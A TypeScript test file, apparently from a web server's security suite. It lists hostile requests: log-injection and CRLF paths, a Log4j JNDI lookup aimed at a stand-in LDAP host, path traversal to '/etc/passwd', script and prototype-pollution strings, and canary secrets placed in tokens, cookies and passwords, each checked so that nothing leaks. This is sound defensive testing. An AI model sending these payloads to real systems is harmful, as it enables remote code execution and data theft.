import { forgot, type HostileCase, post } from '../case.ts'

/** A line that would say something false, if it came to stand alone. */
const FORGED = '{"level":"fatal","time":"2026-01-01T00:00:00.000Z","msg":"forged"}'

const paths: [name: string, path: string][] = [
  ['a line break', `/a%0d%0a${encodeURIComponent(FORGED)}`],
  ['a line break that is escaped twice', '/a%250d%250aforged'],
  ['quotes and a brace', '/a"}{"level":"fatal","msg":"forged"}'],
  ['a backslash before the quote', '/a\\","level":"fatal","x":"\\'],
  ['escapes of a terminal', '/%1b%5b2J%1b%5d0;forged%07'],
  ['a line separator', '/a%e2%80%a8forged'],
  ['a look-up of Log4j', '/$' + '{jndi:ldap://forged.example/a}'],
  ['formats', '/%25s%25n%25d%25j%25o%25O'],
  ['markup', '/<script>forged</script>'],
  ['a name that every object has', '/__proto__/constructor'],
]

const ids: [name: string, id: string][] = [
  ['quotes', '","level":"fatal'],
  ['spaces', 'a b'],
  ['a path', '../../etc/passwd'],
  ['markup', '<script>'],
  ['129 characters', 'a'.repeat(129)],
  ['letters that are not ASCII', '\u00e9\u00e9'],
  ['nothing', ''],
  ['a list', 'a,b'],
]

/** Where clients put secrets, rightly or not. None may come to stand in the log or in a reply. */
const planted: [name: string, send: HostileCase['send'], status: number, code: string][] = [
  ['a token in the query', { path: '/nothing?access_token=canary-1' }, 404, 'route_not_found'],
  ['a password in the query', { path: '/api/v1/users/me?password=canary-2' }, 401, 'unauthenticated'],
  ['a token in the path', { path: '/reset/token=canary-3' }, 404, 'route_not_found'],
  ['credentials of an URL', { path: '/x?u=https://canary-4:canary-5@example.com' }, 404, 'route_not_found'],
  [
    'a Bearer token',
    { path: '/api/v1/users/me', headers: [['Authorization', 'Bearer canary-6.canary-7.canary-8']] },
    401,
    'unauthenticated',
  ],
  [
    'a password of Basic',
    { path: '/api/v1/users/me', headers: [['Authorization', `Basic ${btoa('canary:canary')}canary`]] },
    401,
    'unauthenticated',
  ],
  [
    'cookies',
    { path: '/nothing', headers: [['Cookie', 'session=canary-9; token=canary-10']] },
    404,
    'route_not_found',
  ],
  ['a key of an API', { path: '/nothing', headers: [['X-Api-Key', 'canary-11']] }, 404, 'route_not_found'],
  [
    'a password',
    post('/api/v1/auth/login', { email: 'nobody@example.com', password: 'canary-12' }),
    401,
    'invalid_credentials',
  ],
  [
    'a password that is not text',
    post('/api/v1/auth/login', { email: 'nobody@example.com', password: { canary: 'canary-13' } }),
    400,
    'validation_failed',
  ],
  [
    'a password beside an address that is wrong',
    post('/api/v1/auth/login', { email: 'no address', password: 'canary-14' }),
    400,
    'validation_failed',
  ],
  ['a password in JSON that is broken', forgot('{"password":"canary-15"'), 400, 'invalid_json'],
  [
    'a password in the type',
    forgot('{}', [['Content-Type', 'text/canary-16']]),
    415,
    'unsupported_media_type',
  ],
  [
    'a refresh token',
    post('/api/v1/auth/refresh', { refresh_token: 'canary-17' }),
    401,
    'invalid_refresh_token',
  ],
  [
    'a mailed token',
    post('/api/v1/auth/email/verify', { token: 'canary-18' }),
    400,
    'invalid_one_time_token',
  ],
  ['a secret in broken HTTP', { raw: ['canary-19 canary-20\r\n\r\n'] }, 400, 'bad_request'],
  [
    'a password of the proxy',
    {
      raw: [
        `GET http://canary-21:canary-22@127.0.0.1/nothing HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n`,
      ],
    },
    404,
    'route_not_found',
  ],
]

export const cases: readonly HostileCase[] = [
  ...paths.map(([name, path]): HostileCase => {
    return {
      name: `${name} in the path`,
      send: { path },
      status: 404,
      code: 'route_not_found',
      absent: ['forged'],
    }
  }),
  ...ids.map(([name, id]): HostileCase => {
    const send = { path: '/nothing', headers: [['X-Request-Id', id] as const] }
    const absent = [`x-request-id: ${id}\r\n`]
    return { name: `a request id of ${name}`, send, status: 404, code: 'route_not_found', absent }
  }),
  {
    name: 'two request ids',
    send: {
      path: '/nothing',
      headers: [
        ['X-Request-Id', 'first'],
        ['X-Request-Id', 'second'],
      ],
    },
    status: 404,
    code: 'route_not_found',
    absent: ['first', 'second'],
  },
  {
    name: 'a sane request id is kept',
    send: { path: '/nothing', headers: [['X-Request-Id', 'a-client.s_own-1']] },
    status: 404,
    code: 'route_not_found',
    headers: { 'x-request-id': 'a-client.s_own-1' },
  },
  ...planted.map(([name, send, status, code]): HostileCase => ({ name, send, status, code })),
]
